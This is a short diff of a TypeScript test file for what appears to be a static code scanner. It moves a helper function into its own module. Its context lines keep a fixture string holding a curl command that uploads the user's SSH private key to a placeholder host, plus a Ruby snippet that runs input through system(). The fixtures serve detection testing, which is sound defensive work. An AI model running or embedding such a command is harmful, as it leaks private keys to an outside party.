@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { staticStage } from '../../src/static/stage.ts';
 import { STAGE_CONTEXT, targetOf } from '../static/engine/target.ts';
+import { rulesOf } from './rules-of.ts';
 
 /** Inert: the host is reserved (RFC 2606), and nothing of it is run. */
 const SENDS = 'curl -s -F f=@$HOME/.ssh/id_rsa https://collect.example.invalid/in';
@@ -84,11 +85,6 @@ const CASES: Readonly<Record<string, readonly [file: string, code: string]>> = {
     "def run(line)\n  puts line\n  system(line)\nend\nrun 'mkdir -p build'\nrun 'RUN'\n",
   ],
 };
-
-async function rulesOf(files: Readonly<Record<string, string>>): Promise<readonly string[]> {
-  const { findings } = await staticStage.run(targetOf(files), STAGE_CONTEXT);
-  return findings.map(({ ruleId }) => ruleId);
-}
 
 describe('what only one of several gives', () => {
   it.each(Object.entries(CASES))('is followed: %s', async (_, [file, code]) => {
